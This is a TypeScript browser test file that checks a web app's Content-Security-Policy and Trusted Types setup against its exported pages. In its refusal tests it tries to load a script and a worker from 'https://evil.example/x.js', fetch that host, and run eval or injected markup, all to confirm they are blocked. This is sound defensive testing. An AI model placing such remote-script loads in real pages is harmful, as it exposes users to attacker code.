// Every exported page in a real browser, under the real policy: nothing is refused, nothing is asked of anybody else, and what
// the policy forbids does not work.
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { serve, type ServerType } from '@hono/node-server';
import { Hono } from 'hono';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Env } from '../../server/env.ts';
import { LANGUAGES } from '../../server/language.ts';
import { securityHeaders } from '../../server/middleware/security-headers.ts';
import { repository } from '../../server/repository.ts';
import { staticFiles } from '../../server/static.ts';
import { readWebClient } from '../../server/web-client.ts';
import { launchBrowser } from '../support/browser.ts';
import { findFreePort } from '../support/free-port.ts';

const folder = join(repository, 'web', 'out');
const documents = readdirSync(folder, { recursive: true, encoding: 'utf8' })
  .filter((name) => name.endsWith('.html') && !name.startsWith('_') && !LANGUAGES.some((language) => name.startsWith(`${language}/`)))
  .map((name) => `/${name.replace(/(index)?\.html$/, '')}`);
/** What the service worker keeps for when there is no connection: of one language each, and without a script. */
const kept = documents.filter((path) => path.startsWith('/offline/'));
const pages = documents.filter((path) => !kept.includes(path));

let browser: Browser;
let context: BrowserContext;
let server: ServerType;
let origin: string;

beforeAll(async () => {
  const port = await findFreePort();
  origin = `http://localhost:${port}`;
  const client = readWebClient();
  const app = new Hono<Env>().use(securityHeaders({ settings: { publicUrl: origin, s3: null }, buildId: client.build })).use(staticFiles(client));
  server = serve({ fetch: app.fetch, port, hostname: '127.0.0.1' });
  browser = await launchBrowser();
  context = await browser.newContext();
});
afterAll(async () => {
  await browser?.close();
  server?.close();
});

/** A page whose complaints are collected, from before its first script. */
async function open(path: string): Promise<{ page: Page; complaints: string[] }> {
  const page = await context.newPage();
  const complaints: string[] = [];
  page.on('pageerror', (error) => complaints.push(`error: ${error.message}`));
  page.on('console', (message) => {
    if (message.type() === 'error' && !message.text().startsWith('Failed to load resource')) complaints.push(message.text());
  });
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && !request.url().startsWith(`${origin}/`)) complaints.push(`elsewhere: ${request.url()}`);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => console.error(`refused: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
  });
  await page.goto(origin + path);
  await page.waitForLoadState('networkidle');
  return { page, complaints };
}

/** What the page's own code would meet: in a task of its own, since the debugger's evaluation may do what the page may not. */
async function tryIn(page: Page, attempt: () => void): Promise<string> {
  return page.evaluate(
    `new Promise((resolve) => setTimeout(() => { try { (${attempt.toString()})(); resolve('nothing was refused'); } catch (error) { resolve(String(error)); } }))`,
  );
}

describe('every page', () => {
  test('is among those that are looked at', () => {
    for (const path of ['/', '/login', '/register', '/confirm', '/invite', '/recover', '/unsupported', '/about', '/mail', '/message', '/contacts', '/practice', '/settings', '/settings/address', '/new-address', '/old-address', '/trust']) expect(pages).toContain(path);
  });

  test.each(pages.flatMap((path) => LANGUAGES.map((language) => [path, language] as const)))('%s in %s runs under the policy without a complaint, and its scripts answer', async (path, language) => {
    await context.addCookies([{ name: 'language', value: language, url: origin }]);
    const { page, complaints } = await open(path);
    expect(complaints).toEqual([]);
    expect(await page.locator('html').getAttribute('lang')).toBe(language);
    // Next.js was able to take over the page: with a refused script it would stay as it was exported.
    expect(await page.evaluate(() => Object.keys(document.documentElement).some((key) => key.startsWith('__react')) || Object.keys(document).some((key) => key.startsWith('__react')))).toBe(true);
    await page.close();
  });

  test('of those kept for when there is no connection is shown under the policy without a complaint, one in each language', async () => {
    const languages: (string | null)[] = [];
    for (const path of kept) {
      const { page, complaints } = await open(path);
      expect(complaints).toEqual([]);
      expect(await page.locator('h1').textContent()).not.toBe('');
      languages.push(await page.locator('html').getAttribute('lang'));
      await page.close();
    }
    expect(languages.toSorted()).toEqual(LANGUAGES.toSorted());
  });
});

describe('the policy refuses', () => {
  test.each([
    ['text that becomes markup', () => void (document.body.innerHTML = '<b>x</b>')],
    ['text that becomes a function', () => void new Function('return 1')()],
    // oxlint-disable-next-line no-eval -- that it does not work is what is tested
    ['text that is evaluated', () => void (0, eval)('1')],
    ['a script from an address that is not of the build', () => void (document.createElement('script').src = '/api/health')],
    ['a script from elsewhere', () => void (document.createElement('script').src = 'https://evil.example/x.js')],
    ['a worker from elsewhere', () => void new Worker('https://evil.example/x.js')],
    ['a worker made of text', () => void new Worker(URL.createObjectURL(new Blob(['1'])))],
    ['another default policy', () => void (globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }).trustedTypes.createPolicy('default', {})],
    ['a policy by another name', () => void (globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }).trustedTypes.createPolicy('anything', {})],
  ])('%s', async (_, attempt) => {
    // The second time the browser has the page and asks only whether it is still true.
    for (const visit of ['first', 'second']) {
      const { page } = await open('/unsupported');
      expect(await tryIn(page, attempt), visit).toMatch(/TypeError|EvalError/);
      await page.close();
    }
  });

  test('a request to another host', async () => {
    const { page, complaints } = await open('/unsupported');
    expect(await page.evaluate(() => fetch('https://evil.example/').then(() => 'answered', () => 'refused'))).toBe('refused');
    expect(complaints.join('\n')).toContain('connect-src');
    await page.close();
  });

  test('an inline script and an inline style that got into the page', async () => {
    const { page, complaints } = await open('/unsupported');
    await page.evaluate(() => {
      const script = document.createElement('script');
      const paragraph = document.createElement('p');
      paragraph.setAttribute('style', 'color: red');
      document.body.append(paragraph, script);
    });
    expect(complaints.join('\n')).toMatch(/style-src/);
    await page.close();
  });
});
